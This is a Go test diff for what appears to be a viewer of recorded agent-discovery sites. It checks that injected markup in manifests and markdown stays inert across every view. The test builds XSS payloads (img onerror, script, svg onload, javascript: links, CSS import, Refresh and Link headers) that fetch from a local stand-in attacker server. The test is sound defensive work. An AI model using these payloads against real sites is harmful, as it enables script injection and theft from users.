@@ -9,6 +9,7 @@ import (
 	"net/http/httputil"
 	"net/url"
 	"os"
+	"path/filepath"
 	"strconv"
 	"strings"
 	"sync"
@@ -278,4 +279,96 @@ func listening(t *testing.T, port string) (addresses []string) {
 		}
 	}
 	return addresses
+}
+
+// Scripts in documents do nothing, in no view: no request leaves the page, and it stays
+// where it is.
+func TestScriptsInDocuments(t *testing.T) {
+	var mu sync.Mutex
+	var loot []string
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		defer mu.Unlock()
+		if r.URL.Path != "/favicon.ico" && r.URL.Path != "/" {
+			loot = append(loot, r.URL.Path)
+		}
+		w.Header().Set("Content-Type", "text/html")
+	}))
+	t.Cleanup(attacker.Close)
+	_, port, err := net.SplitHostPort(attacker.Listener.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	steal := "http://" + evil + ":" + port
+	payload := `<img src=` + steal + `/image onerror=fetch('` + steal + `/error')><script>fetch('` + steal + `/script')</script><svg onload=fetch('` + steal + `/svg')><a href=javascript:fetch('` + steal + `/link')>click</a><style>@import '` + steal + `/style';</style>`
+	sites, stop, err := serveSites("serve", recordingOf(t, payload, steal))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(stop)
+	address := inspectAmong(t, sites, "evil.example")
+	ctx := tab(t, address)
+	shows(t, ctx, "#state", "answered")
+	seen := ""
+	for n, view := range views {
+		do(t, ctx, chromedp.KeyEvent(fmt.Sprint(n+1)))
+		opened(t, ctx, view)
+		value[any](t, ctx, `document.querySelectorAll("#view summary, #view .row").forEach((e) => e.click())`)
+		time.Sleep(200 * time.Millisecond)
+		seen += value[string](t, ctx, `document.getElementById("view").innerText`)
+		if n := value[int](t, ctx, `document.querySelectorAll("#view img, #view script, #view style, #view a[href], #view iframe").length`); n != 0 {
+			t.Errorf("%s has %d elements that a document could have made", view, n)
+		}
+	}
+	if at := value[string](t, ctx, `location.href.split("#")[0]`); at != address {
+		t.Errorf("the page is at %s", at)
+	}
+	if !strings.Contains(seen, "<script>") {
+		t.Errorf("no view shows the text, so this test shows nothing:\n%s", seen)
+	}
+	mu.Lock()
+	if len(loot) != 0 {
+		t.Errorf("the attacker got %q", loot)
+	}
+	mu.Unlock()
+
+	// The same text as markup, on a page without our policy, reaches the attacker.
+	naive, _ := emptyTab(t)
+	do(t, naive, chromedp.Navigate(steal+"/"))
+	value[any](t, naive, fmt.Sprintf(`document.body.innerHTML = %q`, payload))
+	for end := time.Now().Add(patience); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
+		mu.Lock()
+		n := len(loot)
+		mu.Unlock()
+		if n >= 2 {
+			return
+		}
+	}
+	t.Error("the text does nothing as markup either, so this test shows nothing")
+}
+
+// recordingOf writes a recording of evil.example, whose documents have a payload in their
+// texts and lead to an address.
+func recordingOf(t *testing.T, payload, steal string) (dir string) {
+	t.Helper()
+	dir = t.TempDir()
+	text := strconv.Quote("Sells things. " + payload)
+	manifest := `{"spec_version": "1.0", "name": ` + text + `, "description": ` + text + `, "base_url": "https://evil.example",
+		"auth": {"type": "api_key", "header": "Authorization", "setup_url": "javascript:fetch('` + steal + `/setup')"},
+		"capabilities": [{"name": "buy", "description": ` + text + `, "detail_url": "/detail"}, {"name": "img src=x onerror=alert(1)", "description": ` + text + `, "detail_url": "javascript:alert(1)"}]}`
+	page := "# Shop\n\nIt sells shoes. " + payload + "\n\n![picture](" + steal + "/markdown)\n[link](javascript:fetch('" + steal + "/mdlink'))\n\n## Can\n\n- Sell shoes " + payload + "\n"
+	for name, content := range map[string]string{
+		"index.txt":                   "wayfind recording 1\nhttps://evil.example/.well-known/agent evil.example/agent.http\nhttps://evil.example/agents.md evil.example/agents.md.http\n",
+		"evil.example/agent.http":     "HTTP/1.1 200 OK\nContent-Type: application/json\nRefresh: 0; url=" + steal + "/refresh\nLink: <" + steal + "/header>; rel=preload; as=script\n\n" + manifest,
+		"evil.example/agents.md.http": "HTTP/1.1 200 OK\nContent-Type: text/markdown\n\n" + page,
+	} {
+		file := filepath.Join(dir, name)
+		if err := os.MkdirAll(filepath.Dir(file), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(file, []byte(content), 0o600); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
 }
